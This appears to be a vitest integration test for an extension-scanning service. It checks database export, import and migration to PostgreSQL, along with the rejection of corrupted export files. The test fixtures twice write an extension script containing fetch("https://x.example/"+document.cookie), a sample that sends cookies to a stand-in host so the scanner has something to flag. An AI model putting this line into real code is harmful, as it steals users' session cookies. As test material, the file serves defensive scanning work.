import { createHash } from 'node:crypto';
import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readConfig } from '../../service/config.ts';
import { openDatabase } from '../../service/database/open.ts';
import { startService } from '../../service/service.ts';
import { findTables, readTable } from '../../service/transfer/tables.ts';
import { transaction } from '../../service/database/transaction.ts';
import { findPostgres, startPostgres, type TestPostgres } from './postgres.ts';
import { extensionZip, startSurroundings, type Surroundings } from './surroundings.ts';
import { runCommand } from './testProcess.ts';
import { startTestService } from './testService.ts';
import { temporaryFolder } from '../temporaryFolder.ts';

const ODD = 'Zoë “quoted” \\ {braces}, \t tab 🔑 NULL';

/** Everything in a database, read by nothing of what is tested but its list of tables. */
async function contents(settings: Record<string, string>): Promise<{ [table: string]: string }> {
  const config = readConfig(settings);
  const database = await openDatabase({ url: config.databaseUrl, directory: config.dataDir, onError: () => undefined });
  try {
    return await transaction(database.pool, async (db) => {
      const all: { [table: string]: string } = {};
      for (const table of await findTables(db)) {
        const { rows } = await db.query(`SELECT t::text AS row FROM ${table.name} t`);
        all[table.name] =
          createHash('sha256')
            .update(
              rows
                .map((row: { row: string }) => row.row)
                .toSorted()
                .join('\n'),
            )
            .digest('hex') + ` ${rows.length}`;
      }
      return all;
    });
  } finally {
    await database.close();
  }
}

describe.skipIf(findPostgres() === undefined)('everything travels', () => {
  let around: Surroundings;
  let postgres: TestPostgres;
  const from = { DATA_DIR: temporaryFolder('from') };
  let key: string;
  let repoId: number;
  let file: string;
  const run = async (settings: Record<string, string>, ...args: string[]) => await runCommand(args, settings);

  beforeAll(async () => {
    around = await startSurroundings();
    postgres = await startPostgres();
    const service = await startTestService(around, from);
    key = service.key;
    repoId = (
      await service.upload(
        'a.zip',
        extensionZip('1.0', 'First', { 'a.js': 'fetch("https://x.example/"+document.cookie)\n' }),
      )
    ).body.repo_id;
    await service.ended(repoId);
    const { pool } = service.service.context.database;
    await pool.query('UPDATE records SET title = $1', [ODD]);
    await pool.query("INSERT INTO organisations (name, tier) VALUES ('Others', 1)");
    // An upload whose scan has not begun, with its file, and one that was under way.
    await pool.query(
      "INSERT INTO records (org_id, identity, url, title, source_type, source) SELECT org_id, 'again ' || n, url, title, source_type, source FROM records, generate_series(1, 2) n",
    );
    await pool.query(
      "INSERT INTO runs (record_id, number, triggered_by, status, attempts) SELECT id, 1, 'manual', CASE identity WHEN 'again 1' THEN 'queued' ELSE 'running' END, CASE identity WHEN 'again 1' THEN 0 ELSE 1 END FROM records WHERE identity LIKE 'again%'",
    );
    const bytes = Buffer.from(
      extensionZip('1.0', 'First', { 'a.js': 'fetch("https://x.example/"+document.cookie)\n' }),
    );
    await pool.query(
      "INSERT INTO packages (sha256, piece, bytes) SELECT source->'target'->>'sha256', 0, $1 FROM records WHERE identity = 'again 1'",
      [bytes],
    );
    // Enough rows that they come in several heaps, and some that are long.
    await pool.query(
      "INSERT INTO advisories (key, value) SELECT 'many ' || n, json_build_object('n', n) FROM generate_series(1, 5000) n",
    );
    await pool.query(
      "INSERT INTO advisories (key, value) SELECT 'long ' || n, to_json(repeat('é', 300000)) FROM generate_series(1, 60) n",
    );
    await service.service.stop();
    file = join(temporaryFolder('export'), 'all.touchstone');
  });
  afterAll(async () => {
    await postgres?.stop();
    await around?.close();
  });

  it('into a file that is the owner’s alone, and from it into an empty database', async () => {
    const exported = await run(from, 'export', file);
    expect(exported).toMatchObject({ code: 0, output: expect.stringMatching(/advisories +5060$/m) });
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect((await run(from, 'export', file)).output).toMatch(/is there already/);
    const to = { DATA_DIR: temporaryFolder('to') };
    expect(await run(to, 'import', file)).toMatchObject({
      code: 0,
      output: expect.stringMatching(/every table equal/),
    });
    const [before, after] = [await contents(from), await contents(to)];
    // Only the scan that was under way waits again.
    expect({ ...after, runs: '' }).toEqual({ ...before, runs: '' });
    expect(Object.keys(before)).toEqual(
      expect.arrayContaining([
        'organisations',
        'users',
        'api_keys',
        'records',
        'runs',
        'run_files',
        'file_results',
        'packages',
        'sessions',
      ]),
    );
    expect(await run(to, 'import', file)).toMatchObject({ code: 1, output: expect.stringMatching(/in use already/) });
  });

  it('to PostgreSQL, where keys, reports and waiting scans go on', async () => {
    const before = await contents(from);
    const to = { DATABASE_URL: await postgres.freshDatabase() };
    expect(await run(from, 'move', '--to', to.DATABASE_URL)).toMatchObject({
      code: 0,
      output: expect.stringMatching(/Moved/),
    });
    expect({ ...(await contents({ ...to, DATA_DIR: temporaryFolder('none') })), runs: '' }).toEqual({
      ...before,
      runs: '',
    });

    const service = await startService(
      readConfig({ ...to, PORT: '0', DATA_DIR: temporaryFolder('data'), OSV_URL: 'off', LOG_LEVEL: 'silent' }),
    );
    try {
      const ask = async (path: string) => {
        const response = await fetch(`${service.address}/api/v1${path}`, {
          headers: { authorization: `Bearer ${key}` },
        });
        return { status: response.status, body: await response.json() };
      };
      expect((await ask(`/repos/${repoId}/report`)).body).toMatchObject({
        title: ODD,
        total_findings: expect.any(Number),
      });
      const list = (await ask('/repos')).body as { repo_id: number; is_complete: boolean; phase: string }[];
      expect(list).toHaveLength(3);
      const ended = async () =>
        ((await ask('/repos')).body as typeof list).every((one) => one.is_complete || one.phase === 'Failed');
      for (const until = Date.now() + 40_000; !(await ended()) && Date.now() < until;)
        await new Promise((resolve) => setTimeout(resolve, 100));
      expect(await ended()).toBe(true);
      // Numbers go on behind those that came along.
      const form = new FormData();
      form.set('file', new Blob([extensionZip('9.0', 'New') as Uint8Array<ArrayBuffer>]), 'n.zip');
      const made = (await (
        await fetch(`${service.address}/api/v1/extensions/upload`, {
          method: 'POST',
          headers: { authorization: `Bearer ${key}` },
          body: form,
        })
      ).json()) as { repo_id: number };
      expect(made.repo_id).toBeGreaterThan(Math.max(...list.map((one) => one.repo_id)));
    } finally {
      await service.stop();
    }
    expect(await run(from, 'move', '--to', to.DATABASE_URL)).toMatchObject({
      code: 1,
      output: expect.stringMatching(/in use already/),
    });
  });

  it('or not at all: a file that is cut off, changed, newer or none leaves the database empty', async () => {
    const lines = gunzipSync(readFileSync(file)).toString('utf8').trimEnd().split('\n');
    const at = lines.findIndex((line) => line.includes('Others'));
    const broken: [string, string[] | Buffer, RegExp][] = [
      ['cut off', lines.slice(0, -1), /no whole export/],
      [
        'changed',
        lines.with(at, (lines[at] ?? '').replace('Others', 'Ithers')),
        /organisations differs after it was written.*Nothing was kept/,
      ],
      [
        'a row less',
        lines.with(at, JSON.stringify((JSON.parse(lines[at] ?? '') as unknown[]).slice(1))),
        /organisations differs|violates/,
      ],
      ['newer', lines.with(0, (lines[0] ?? '').replace(/"schema":\d+/, '"schema":999')), /newer Touchstone/],
      ['none', Buffer.from('hello'), /no whole export/],
    ];
    for (const [name, content, sentence] of broken) {
      const other = join(temporaryFolder('broken'), name);
      writeFileSync(other, Buffer.isBuffer(content) ? content : gzipSync(`${content.join('\n')}\n`));
      const to = { DATA_DIR: temporaryFolder('to') };
      const { code, output } = await run(to, 'import', other);
      expect(output, name).toMatch(sentence);
      expect(output, name).not.toMatch(/\n\s+at /);
      expect(code, name).toBe(1);
      expect((await contents(to))['organisations'], name).toMatch(/ 0$/);
    }
    expect((await run({ DATA_DIR: temporaryFolder('to') }, 'import', '/nowhere')).output).toMatch(
      /cannot be read \(ENOENT\)/,
    );
    expect((await run(from, 'move')).output).toMatch(/^Usage/);
    // Twelve commands, each with a database of its own to start: slow where the machine does other things besides.
  }, 480_000);

  it('reads a table in the order of its key', async () => {
    const config = readConfig(from);
    const database = await openDatabase({ url: undefined, directory: config.dataDir, onError: () => undefined });
    try {
      const keys = await transaction(database.pool, async (db) => {
        const table = (await findTables(db)).find(({ name }) => name === 'advisories');
        const read: string[] = [];
        if (table !== undefined)
          for await (const rows of readTable(db, table)) read.push(...rows.map((row) => row[0] ?? ''));
        return read;
      });
      expect(keys).toHaveLength(5060);
      expect(keys).toEqual(keys.toSorted((a, b) => Buffer.compare(Buffer.from(a), Buffer.from(b))));
    } finally {
      await database.close();
    }
  });
});
